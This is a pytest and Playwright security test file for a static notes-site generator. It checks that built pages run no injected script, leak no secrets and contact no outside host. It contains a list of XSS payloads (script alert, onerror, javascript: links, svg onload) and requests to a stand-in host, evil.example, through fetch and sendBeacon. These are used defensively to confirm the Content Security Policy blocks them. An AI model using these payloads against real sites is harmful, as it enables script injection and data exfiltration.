"""Hostile notes: nothing of theirs runs, asks another host, or comes out that should not. One site, looked at from all sides."""

from __future__ import annotations

import re
import threading
import zlib
from collections.abc import Iterator
from contextlib import suppress
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Error, Frame, Page

from tests.browsing import LOCAL, Serve, heard_by, wait_until
from tests.conftest import BuildSite
from tests.hostile import CONFIG, NOTES, OPENED, SECRET

ADDRESSES = frozenset("href src srcset action formaction poster data xlink:href ping cite background manifest".split())
SCHEMES = frozenset("http https mailto tel ftp magnet obsidian zotero".split())
# Elements that load, run or take over, other than the theme's own.
NEVER = frozenset("iframe frame object embed applet base".split())


@pytest.fixture
def site(build_site: BuildSite) -> Path:
    return build_site(NOTES, CONFIG)


class Walker(HTMLParser):
    """Gathers what an element of a page could do, judged by other means than the site's own gate."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NEVER:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name == "style" and "url(" in (value or "")):
                self.found.append(f"{tag} {name}={value}")
            if name in ADDRESSES:
                self._address(tag, name, value or "")
            if (
                tag == "meta"
                and name == "http-equiv"
                and (value or "").lower() not in ("refresh", "content-security-policy")
            ):
                self.found.append(f"meta {value}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _address(self, tag: str, name: str, value: str) -> None:
        visible = "".join(char for char in value if char.isprintable() and not char.isspace())
        head, colon, _ = visible.partition(":")
        named = colon and head.isascii() and head[:1].isalpha() and not set(head) & set("/?#&%<>;=")
        scheme = head.lower() if named else ""
        bitmap = name == "src" and visible.startswith(("data:image/png;", "data:image/jpeg;"))
        if scheme and scheme not in SCHEMES and not bitmap:
            self.found.append(f"{tag} {name}={value}")


def test_no_attribute_of_any_page_acts(site: Path) -> None:
    for path in sorted(site.rglob("*.html")):
        assert Walker(path.read_text("utf-8")).found == [], path.relative_to(site)


def test_the_projects_own_pages_stand_before_the_same_eyes(project_site: Path) -> None:
    for path in sorted(project_site.rglob("*.html")):
        assert Walker(path.read_text("utf-8")).found == [], path.relative_to(project_site)


def unpacked(site: Path) -> Iterator[tuple[str, bytes]]:
    for path in sorted(site.rglob("*")):
        if path.is_file():
            data = path.read_bytes()
            yield path.relative_to(site).as_posix(), zlib.decompress(data, 47) if data[:2] == b"\x1f\x8b" else data


def test_nothing_private_is_in_any_file(site: Path) -> None:
    escaped = SECRET.encode("ascii", "backslashreplace")
    for name, data in unpacked(site):
        assert SECRET.encode() not in data, name
        assert escaped not in data.lower(), name
        assert "草稿专用" not in name
        assert "草稿附件" not in name
        assert "不公开" not in name
        assert b"GPS 31.23" not in data, name


def test_no_file_acts_by_itself(site: Path) -> None:
    names = {path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file()}
    assert not {name for name in names if name.startswith("evil.") or "未链接" in name} - {"evil.svg"}
    assert OPENED not in (site / "evil.svg").read_text("utf-8")
    for name in (site / "sw.js", site / "assets/ainotes.js"):
        assert OPENED not in name.read_text("utf-8")
    for path in site.rglob("*.js"):
        assert f"alert('{OPENED}')\n" not in path.read_text("utf-8"), path


# ---- in the browser ----


def watch(page: Page) -> list[str]:
    """Write down each dialog, of whatever frame, and each place outside the site that the page goes to."""
    seen: list[str] = []

    def dialog(one: Dialog) -> None:
        seen.append(f"dialog: {one.message}")
        one.dismiss()

    def went(frame: Frame) -> None:
        if frame == page.main_frame and not frame.url.startswith(LOCAL):
            seen.append(f"went to {frame.url}")

    page.on("dialog", dialog)
    page.on("framenavigated", went)
    page.context.on("page", lambda other: other.on("dialog", dialog))
    return seen


# Clicks everything at once, then each handler has had its turn; what leads elsewhere within the site is looked at apart.
CLICK = """() => {
    // Without a clipboard the site's own link to copy a page is a link, which waits for its turn as all others do.
    Object.defineProperty(navigator, 'clipboard', {value: undefined});
    const own = [...document.querySelectorAll('a, area, button, summary, label, input, [onclick], svg a, [role=button]')];
    addEventListener('click', (event) => {
        const link = event.target.closest?.('a');
        if (/^https?:|^[^:]*([/?#]|$)/i.test(link?.href.baseVal ?? link?.href)) event.preventDefault();
    });
    for (const one of own) one.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true, view: window}));
    return own.length;
}"""
EXPECTED = ("404",)  # pictures that are missing are the note's own mistake
# Whether a diagram is drawn by the browser, or its mistake is told.
DRAWN = """(at) => {
    const source = document.querySelectorAll('pre.ainotes-mermaid')[at];
    const message = source.nextElementSibling?.nextElementSibling;
    return source.hidden || (message?.matches('.ainotes-quiet') && !message.hidden);
}"""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
PAGES = 40  # the notes make fewer; a bound for the day when they make more


@pytest.mark.parametrize("walls", ["both", "no policy"])
def test_nothing_runs_asks_or_leads_away(walls: str, site: Path, serve: Serve, page: Page) -> None:
    if walls == "no policy":
        for path in site.rglob("*.html"):
            path.write_text(POLICY.sub("", path.read_text("utf-8")), "utf-8")
    home = serve(site)
    seen = watch(page)
    texts = {path: path.read_text("utf-8") for path in sorted(site.rglob("index.html"))}
    # A page that only leads on is gone before it can be clicked; where it leads is here, too.
    paths = [path for path, text in texts.items() if "alert" in text and 'http-equiv="refresh"' not in text]
    assert len(paths) > 10
    clicked = 0
    for path in paths[:PAGES]:
        page.goto(home + path.parent.relative_to(site).as_posix() + "/")
        for number in range(page.locator("pre.ainotes-mermaid").count()):
            page.evaluate("(at) => document.querySelectorAll('pre.ainotes-mermaid')[at].scrollIntoView()", number)
            page.wait_for_function(f"({DRAWN})({number})")
        clicked += page.evaluate(CLICK)
        page.wait_for_timeout(50)
    assert clicked > 100
    page.goto(home + "evil.svg")
    page.goto(home)
    page.evaluate("ainotes.search('alert')")
    page.wait_for_timeout(200)
    heard = heard_by(page)
    assert seen == []
    assert heard.foreign() == []
    assert heard.errors == []
    assert [line for line in heard.console if not any(mark in line for mark in EXPECTED)] == []


PAYLOADS = (
    f"<script>alert('{OPENED}')</script>",
    f"<img src=x onerror=\"alert('{OPENED}')\">",
    f"<a id=trap href=\"javascript:alert('{OPENED}')\">x</a>",
    f"<iframe srcdoc=\"<script>parent.alert('{OPENED}')</script>\"></iframe>",
    "<script src=https://evil.example/x.js></script>",
    f"<script src=\"data:text/javascript,alert('{OPENED}')\"></script>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/x.png><video src=https://evil.example/x.mp4 autoplay></video>",
    "<form id=away action=https://evil.example/><button>发</button></form>",
    f"<svg onload=\"alert('{OPENED}')\"></svg><details open ontoggle=\"alert('{OPENED}')\">x</details>",
)


@pytest.fixture
def evil() -> Iterator[tuple[str, list[str]]]:
    """Return another host, and what was asked of it."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        do_POST = do_GET

        def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 (the name is the base class's)
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"{LOCAL}{server.server_port}", asked
    server.shutdown()
    server.server_close()


def try_all(page: Page) -> None:
    for act in (
        "document.getElementById('trap').click()",
        "document.querySelector('#away button').click()",
        "fetch('https://evil.example/').catch(() => 0)",
        "navigator.sendBeacon('https://evil.example/')",
    ):
        with suppress(Error):  # refused, or on its way to another page
            page.evaluate(act.replace("https://evil.example", page.evaluate("window.evil")))
        page.wait_for_timeout(100)


def test_the_policy_holds_where_the_gate_is_gone(
    site: Path, serve: Serve, page: Page, evil: tuple[str, list[str]]
) -> None:
    """Put the payloads into a page as they are, as if nothing cleaned it; then without the policy, to see that they would act."""
    host, asked = evil
    path = next(path for path in sorted(site.glob("topics/*/index.html")))
    payloads = "".join(PAYLOADS).replace("https://evil.example", host)
    open_gate = path.read_text("utf-8").replace("</article>", f"{payloads}</article>", 1)
    path.write_text(open_gate, "utf-8")
    address = serve(site) + path.parent.relative_to(site).as_posix() + "/"
    page.add_init_script(f"window.evil = '{host}'")
    seen = watch(page)
    page.goto(address)
    try_all(page)
    assert seen == []
    assert asked == []
    assert page.url == address
    assert any("Content Security Policy" in line for line in heard_by(page).console)
    assert page.locator("[data-md-component=palette] label:visible").count() == 1  # and the theme's own scripts run

    path.write_text(POLICY.sub("", open_gate, count=1), "utf-8")
    page.goto(address, wait_until="commit")
    wait_until(page, lambda: f"dialog: {OPENED}" in seen and {"/x.js", "/x.css", "/x.png"} <= set(asked))
